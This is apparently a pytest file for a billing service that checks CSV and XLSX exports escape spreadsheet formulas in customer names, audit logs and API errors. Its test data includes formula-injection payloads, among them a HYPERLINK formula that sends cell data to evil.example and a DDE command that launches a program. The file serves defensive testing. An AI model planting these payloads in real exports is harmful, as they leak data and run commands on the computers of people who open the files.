"""Exports can't carry spreadsheet formulas: every download goes through services/exports.py."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from services.audit import AuditFilter, AuditLog
from services.auth.roles import Actor, Role
from services.desk import BillingDesk
from services.payments.errors import scrub_api_text
from services.exports import csv_bytes, neutralise
from services.jobs.worker import JobWorker
from services.payments.client import PaymentsClient

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
            "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_starts_a_formula_is_prefixed(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["org_abc123", "Acme = fine", "a-b", "", "café", 5, -3.5, None])
def test_other_cells_are_unchanged(cell: object) -> None:
    assert neutralise(cell) == cell


def test_csv_neutralises_text_but_keeps_numbers_and_the_frame() -> None:
    frame = pd.DataFrame({"name": FORMULAS, "price": [-1.5] * len(FORMULAS)})
    rows = list(csv.DictReader(io.StringIO(csv_bytes(frame).decode(), newline="")))
    assert all(row["name"].startswith("'") for row in rows)
    assert {row["price"] for row in rows} == {"-1.5"}  # a number stays a number
    assert list(frame.name) == FORMULAS  # what the screen shows is unchanged


def test_the_audit_download_of_a_hostile_login_name_is_inert(client: PaymentsClient, store_url: str) -> None:
    audit = AuditLog(store_url)
    audit.record(user=FORMULAS[0], role="unknown", action="login locked", organization_id="=1+1", outcome="denied",
                 error="@evil", reason="-reason")
    exported = BillingDesk(client, audit).audit_csv(Actor("fay", Role.FINANCE), AuditFilter())
    [row] = list(csv.DictReader(io.StringIO(exported.decode())))
    assert row["user"] == "'" + FORMULAS[0]
    assert (row["organization_id"], row["error"], row["reason"]) == ("'=1+1", "'@evil", "'-reason")


def test_hostile_text_from_the_api_is_inert_in_the_bulk_download(client: PaymentsClient, control, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Customers edit their own name, email and address (in a real portal); an API error carries its message.
    Every such field goes into the bulk CSV, and none may arrive as a live formula."""
    organizations = [row["id"] for row in control.organizations("active")][:len(FORMULAS)]
    for organization_id, formula in zip(organizations, FORMULAS):
        control.set_profile(organization_id, organizationName=formula, name=formula, email=formula,
                            address={"line1": formula, "city": formula})
    desk = BillingDesk(client, AuditLog(f"sqlite:///{tmp_path / 'audit.sqlite3'}"))
    support = Actor("sam", Role.SUPPORT)
    worker = JobWorker(desk.jobs, client, lease=timedelta(seconds=2), heartbeat_every=0.3)
    lookup = desk.start_bulk_job(support, organizations)
    assert worker.run_once()
    control.add_fault("customer-info", status=422, code="blocked", message=FORMULAS[0], count=1)
    failed = desk.start_bulk_job(support, [organizations[0]])
    assert worker.run_once()
    rows = list(csv.DictReader(io.StringIO(desk.bulk_job_export(support, lookup).decode(), newline="")))
    rows += list(csv.DictReader(io.StringIO(desk.bulk_job_export(support, failed).decode(), newline="")))
    sheet = openpyxl.load_workbook(io.BytesIO(desk.bulk_job_export(support, lookup, "results", "xlsx"))).active
    texts = [cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert texts and not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]
    cells = [(column, value) for row in rows for column, value in row.items()]
    assert len(rows) == len(organizations) + 1
    live = [(column, value) for column, value in cells if value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert live == [], live
    for column in ("name", "email", "address"):
        assert all(row[column].startswith("'") for row in rows[:-1]), column
    assert rows[-1]["error"] == "'" + scrub_api_text(FORMULAS[0])  # the API's words, their address removed, inert


def test_a_large_export_is_zipped_whole_and_formula_safe() -> None:
    import io
    import zipfile

    from services.exports import SafeCsvWriter, zipped

    source = io.BytesIO()
    writer = SafeCsvWriter(source, ["id", "reason"])
    for number in range(20_000):
        writer.write([number, "=HYPERLINK(\"http://evil\")" if number == 7 else "Customer asked"])
    writer.close()
    plain = source.getvalue()
    source.seek(0)
    with zipped(source, "audit.csv") as archive_file, zipfile.ZipFile(archive_file) as archive:
        assert archive.namelist() == ["audit.csv"]
        assert archive.read("audit.csv") == plain  # every line, byte for byte
        assert archive.getinfo("audit.csv").compress_size < len(plain) / 5
    assert b"'=HYPERLINK" in plain
